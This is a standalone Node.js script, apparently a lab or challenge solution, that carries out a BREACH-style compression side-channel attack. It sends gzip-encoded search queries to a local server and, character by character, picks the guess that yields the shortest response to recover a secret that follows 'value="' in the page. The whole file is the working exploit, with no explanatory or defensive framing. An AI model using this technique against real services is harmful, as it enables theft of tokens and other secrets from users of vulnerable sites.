import http from "node:http";

const port = Number(process.env.PORT ?? 3000);
const agent = new http.Agent({ keepAlive: true });
const headers = { "accept-encoding": "gzip" };

function lengthFor(query) {
  const path = `/search?q=${encodeURIComponent(query)}`;
  const options = { agent, port, path, headers };
  return new Promise((resolve, reject) => {
    const request = http.get(options, async (res) => {
      let length = 0;
      for await (const chunk of res) length += chunk.length;
      resolve(length);
    });
    request.on("error", reject);
  });
}

const LETTERS = 'abcdefghijklmnopqrstuvwxyz0123456789-"';
let known = 'value="';
for (let i = 0; i < 12; i += 1) {
  const lengths = await Promise.all(
    Array.from(LETTERS, (letter) => lengthFor(known + letter)),
  );
  known += LETTERS[lengths.indexOf(Math.min(...lengths))];
}
console.log(known);
